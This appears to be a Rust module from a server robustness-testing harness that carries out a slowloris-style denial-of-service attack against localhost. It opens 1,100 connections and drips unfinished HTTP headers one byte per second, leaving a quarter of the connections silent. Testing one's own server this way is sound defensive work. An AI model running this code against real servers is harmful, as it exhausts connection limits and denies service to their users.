//! Heads of requests that do not come to an end, and connections on which nothing ever comes.

use std::time::Duration;

use tokio::{task::JoinSet, time::sleep};

use super::{AGAIN, Attack, stranger};
use crate::broken::Result;

/// More than a server with 1,024 files can have open.
const CONNECTIONS: usize = 1_100;
/// Every fourth of them sends nothing at all.
const SILENT_EACH: usize = 4;
/// The pause between two bytes.
const BETWEEN_BYTES: Duration = Duration::from_secs(1);
/// Connections are opened at this pace, so that the server's queue of new ones is never what is tested.
const BETWEEN_CONNECTIONS: Duration = Duration::from_millis(2);

pub(super) fn start(attack: &Attack, attacking: &mut JoinSet<Result<()>>) {
    for number in 0..CONNECTIONS {
        let attack = attack.clone();
        attacking.spawn(async move {
            sleep(BETWEEN_CONNECTIONS * u32::try_from(number)?).await;
            loop {
                let mut connection = attack.connect(stranger(number)).await;
                if number % SILENT_EACH != 0
                    && connection.send(b"GET /v1/deals HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").await.is_ok()
                {
                    // Sending fails once the server has had enough.
                    while connection.send(b"a").await.is_ok() {
                        sleep(BETWEEN_BYTES).await;
                    }
                }
                attack.ended(&mut connection).await;
                sleep(AGAIN).await;
            }
        });
    }
}
